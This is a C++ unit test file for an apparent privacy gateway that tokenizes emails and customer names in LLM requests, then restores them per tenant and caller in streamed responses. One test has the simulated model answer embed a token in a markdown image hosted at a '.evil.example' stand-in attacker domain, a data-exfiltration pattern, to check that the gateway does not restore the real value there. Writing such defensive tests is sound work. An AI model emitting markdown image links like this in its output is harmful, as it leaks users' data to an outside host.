// What policy does to values, through the whole gateway: streams, records, one answer and two
// callers.
#include <gtest/gtest.h>

#include <algorithm>

#include "controlplane/policy/dictionary/dictionary_compiler.h"
#include "controlplane/policy/matcher/matcher_compiler.h"
#include "tests/sim/flow/texts.h"
#include "tests/sim/flow/world.h"
#include "tests/unit/scan/scan_fixture.h"

namespace sallyport::sim {
namespace {

using contract::RecordedAction;
using contract::TallySection;

constexpr size_t kEmail = 0;       // entity of the world's image
constexpr uint16_t kTokenize = 1;  // action of it

// An action that the world's image does not have; answers its index.
uint16_t add_action(policy::ImageBuilder& b, contract::Action action, contract::Action would) {
  contract::ImageAction a{};
  a.id = b.text("added");
  a.action = static_cast<uint8_t>(action);
  a.would = static_cast<uint8_t>(would);
  a.mask_char = action == contract::Action::Mask ? '*' : 0;
  b.actions.push_back(a);
  return static_cast<uint16_t>(b.actions.size() - 1);
}

TEST(Actions, ARecordTellsWhatObserveTriesOut) {
  World world;
  world.adopt_again([](policy::ImageBuilder& b) {
    const uint16_t tried = add_action(b, contract::Action::Observe, contract::Action::Block);
    b.ruling(0, 0, 0, contract::Direction::Request, kEmail) = tried;
  });
  TlsPeer& client = world.open_client();
  EXPECT_EQ(world.ask(client, post(chat("ann@example.com bob@example.com"))).status, 200);
  EXPECT_EQ(content_of(world.vendor->requests.back()), "ann@example.com bob@example.com");
  const auto& tallies = world.records()[0].tallies;
  ASSERT_EQ(tallies.size(), 1U);
  EXPECT_EQ(tallies[0].name.view(), "EMAIL_ADDRESS");
  EXPECT_EQ(tallies[0].action, static_cast<uint8_t>(RecordedAction::Observe));
  EXPECT_EQ(tallies[0].reason.view(), "would_block");
  EXPECT_EQ(tallies[0].count, 2U);
}

TEST(Actions, AHashLeavesAndDoesNotComeBack) {
  World world;
  world.adopt_again([](policy::ImageBuilder& b) {
    const uint16_t hash = add_action(b, contract::Action::Hash, contract::Action::Hash);
    b.ruling(0, 0, 0, contract::Direction::Request, kEmail) = hash;
  });
  world.vendor->answer = [](VendorConnection& c, const std::string& request) {
    c.peer->write(Vendor::json_answer(answer_with("You wrote " + content_of(request))));
  };
  TlsPeer& client = world.open_client();
  const HttpAnswer answer = world.ask(client, post(chat("ann@example.com")));
  const std::string sent = content_of(world.vendor->requests.back());
  EXPECT_TRUE(sent.starts_with("[EMAIL-ADDRESS#")) << sent;
  EXPECT_NE(answer.body.find("You wrote " + sent), std::string::npos) << answer.body;
}

// A list of one tenant: its values leave as tokens and come back, in nobody else's texts.
void with_customers(policy::ImageBuilder& b) {
  using namespace controlplane::policy;
  auto entities = scan::first_entities();
  EntitySource customer;
  customer.name = "CUSTOMER";
  customer.rules.resize(1);
  customer.rules[0].id = "customers";
  customer.rules[0].kind = contract::RuleKind::Dictionary;
  entities.push_back(customer);
  b.matcher = compile_matcher(entities).section;
  b.entities.push_back(b.entity(customer.name));
  b.fill_rulings(kTokenize);
  DictionaryKey key;
  const std::string bytes = policy::key_bytes('d');
  std::copy(bytes.begin(), bytes.end(), key.begin());
  const DictionarySource source{"customers", "Erika Mustermann\n", -1, 4};
  b.dictionaries = compile_dictionaries({&source, 1}, key).section;
  b.dictionary_names = {b.text("customers")};
  b.dictionary_tenants = {1, 0};
}

TEST(Actions, AValueOfATenantsListIsFoundInItsTextsOnly) {
  World world;
  world.adopt_again(with_customers);
  world.vendor->answer = [](VendorConnection& c, const std::string& request) {
    c.peer->write(Vendor::json_answer(answer_with("You wrote " + content_of(request))));
  };
  TlsPeer& client = world.open_client();
  const HttpAnswer answer = world.ask(client, post(chat("ask ERIKA  Mustermann, please")));
  EXPECT_TRUE(content_of(world.vendor->requests.back()).starts_with("ask [CUSTOMER-"));
  EXPECT_NE(answer.body.find("You wrote ask ERIKA  Mustermann, please"), std::string::npos)
      << answer.body;
  ASSERT_FALSE(world.records()[0].tallies.empty());
  EXPECT_EQ(world.records()[0].tallies[0].name.view(), "CUSTOMER");
  world.adopt_again([](policy::ImageBuilder& b) {
    with_customers(b);
    b.dictionary_tenants = {0, 1};  // somebody else's
  });
  world.ask(client, post(chat("ask Erika Mustermann")));
  EXPECT_EQ(content_of(world.vendor->requests.back()), "ask Erika Mustermann");
}

// Two callers of one tenant: the first may have everything back, the second no mail addresses.
void two_principals(policy::ImageBuilder& b) {
  for (auto& key : b.keys)
    if (key.tenant == 0 && key.environment == 1) key.principal = b.text("clerk");
  contract::ImageAccess denied{};
  denied.id = b.text("no-mail-for-clerks");
  denied.principal = b.text("clerk");
  denied.tenant = 0;
  denied.entity = kEmail;
  b.access.insert(b.access.begin(), denied);
}

TEST(Actions, InEqualStreamsOneCallerSeesTheNameAndAnotherTheToken) {
  World world;
  world.adopt_again(two_principals);
  size_t piece = 1;
  world.vendor->answer = [&](VendorConnection& c, const std::string& request) {
    const std::string text = "So: " + content_of(request) + ". Done";
    std::string events;
    for (size_t at = 0; at < text.size(); at += piece) events += delta(text.substr(at, piece));
    c.peer->write(kStreamHead + chunk(events + last_events()) + "0\r\n\r\n");
  };
  TlsPeer& client = world.open_client();
  const std::string body =
      chat("mail ann@example.com or call +1 415-555-2671 now", R"(,"stream":true)");
  const auto asked_by = [&](const std::string& key) {
    return world.ask(client, post(body, "/openai/v1/chat/completions", key));
  };
  for (piece = 1; piece < 60; piece += 1 + piece / 3) {
    const HttpAnswer robot = asked_by("lab");
    const std::string sent = content_of(world.vendor->requests.back());
    const HttpAnswer clerk = asked_by("production");
    EXPECT_EQ(content_of(world.vendor->requests.back()), sent) << "the vendor sees no difference";
    const std::string token = sent.substr(5, sent.find(']') - 4);
    ASSERT_TRUE(token.starts_with("[EMAIL-ADDRESS-")) << sent;
    EXPECT_EQ(streamed_text(robot.body),
              "So: mail ann@example.com or call +1 415-555-2671 now. Done");
    EXPECT_EQ(streamed_text(clerk.body),
              "So: mail " + token + " or call +1 415-555-2671 now. Done");
    EXPECT_TRUE(clerk.body.ends_with("data: [DONE]\n\n"));
  }
  const auto& tallies = world.records().back().tallies;
  const auto denied = std::find_if(tallies.begin(), tallies.end(), [](const auto& tally) {
    return tally.section == static_cast<uint8_t>(TallySection::RestorationDenied);
  });
  ASSERT_NE(denied, tallies.end());
  EXPECT_EQ(denied->name.view(), "EMAIL_ADDRESS");
  EXPECT_EQ(denied->count, 1U);
}

// A token in the name of a host is a way out. It stays at every cut over events, and the record
// says why; what stands behind it comes back.
TEST(Actions, AValueIsNotPutIntoTheNameOfAHost) {
  World world;
  size_t piece = 1;
  world.vendor->answer = [&](VendorConnection& c, const std::string& request) {
    const std::string token = content_of(request).substr(5);
    const std::string text = "![x](//a/) " + token + ".evil.example/x.png " + token;
    std::string events;
    for (size_t at = 0; at < text.size(); at += piece) events += delta(text.substr(at, piece));
    c.peer->write(kStreamHead + chunk(events + last_events()) + "0\r\n\r\n");
  };
  TlsPeer& client = world.open_client();
  const std::string body = chat("mail ann@example.com", R"(,"stream":true)");
  for (piece = 1; piece < 60; piece += 1 + piece / 3) {
    const HttpAnswer answer = world.ask(client, post(body));
    const std::string token = content_of(world.vendor->requests.back()).substr(5);
    EXPECT_EQ(streamed_text(answer.body),
              "![x](//a/) " + token + ".evil.example/x.png ann@example.com");
    const auto& tallies = world.records().back().tallies;
    const auto denied = std::find_if(tallies.begin(), tallies.end(), [](const auto& tally) {
      return tally.section == static_cast<uint8_t>(TallySection::RestorationDenied);
    });
    ASSERT_NE(denied, tallies.end());
    EXPECT_EQ(denied->name.view(), "EMAIL_ADDRESS");
    EXPECT_EQ(denied->reason.view(), "followed_place");
    EXPECT_EQ(denied->count, 1U);
  }
}

}  // namespace
}  // namespace sallyport::sim
